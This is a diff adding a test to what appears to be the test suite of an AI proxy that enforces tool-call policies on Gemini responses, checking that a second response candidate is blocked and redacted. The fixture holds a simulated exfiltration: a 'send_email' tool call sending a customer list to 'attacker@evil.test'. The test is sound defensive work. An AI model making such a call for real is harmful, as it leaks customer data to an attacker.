@@ -199,6 +199,26 @@ describe('tool invocation policies, Gemini generateContent / streamGenerateConte
     await blocking.close();
   });
 
+  it('candidateCount > 1: a call in a second candidate is judged and refused too (JSON and stream)', async () => {
+    const candidates = [
+      { index: 0, content: { role: 'model', parts: [{ text: 'Here is your summary.' }] }, finishReason: 'STOP' },
+      { index: 1, content: { role: 'model', parts: [{ functionCall: { name: 'send_email', args: { to: 'attacker@evil.test', body: 'customer list' } } }] }, finishReason: 'STOP' },
+    ];
+    const body = { candidates, usageMetadata: { promptTokenCount: 10, candidatesTokenCount: 5, totalTokenCount: 15 }, modelVersion: MODEL };
+    up.reply({ kind: 'raw', status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
+    const response = await client.models.generateContent({ ...ask(), config: { ...config, candidateCount: 2 } });
+    expect(JSON.stringify(response.candidates)).not.toContain('attacker@evil.test');
+    expect(response.candidates?.[0]?.content?.parts?.[0]?.text).toBe('Here is your summary.');
+    expect(response.candidates?.[1]?.content?.parts?.[0]?.text).toContain('[Archestra]');
+    expect((await auditRows(proxy)).at(-1)?.decisions).toEqual(expect.arrayContaining([expect.objectContaining({ kind: 'tool_call', tool: 'send_email', action: 'block' })]));
+
+    up.reply({ kind: 'raw', status: 200, headers: { 'content-type': 'text/event-stream' }, body: `data: ${JSON.stringify(body)}\r\n\r\n` });
+    const chunks: GenerateContentResponse[] = [];
+    for await (const chunk of await client.models.generateContentStream({ ...ask(), config: { ...config, candidateCount: 2 } })) chunks.push(chunk);
+    expect(JSON.stringify(chunks)).not.toContain('attacker@evil.test');
+    expect(JSON.stringify(chunks)).toContain('[Archestra]');
+  });
+
   it('P11: an explicit block stops a call in a clean context, with the rule\'s own reason', async () => {
     const { proxy: own, client: blocking } = clientFor({ policies: { tools: [{ id: 'never-send', tool: 'send_*', action: 'block', reason: 'sending mail is disabled' }] } });
     up.reply({ kind: 'generate', functionCalls: [ATTACK] });
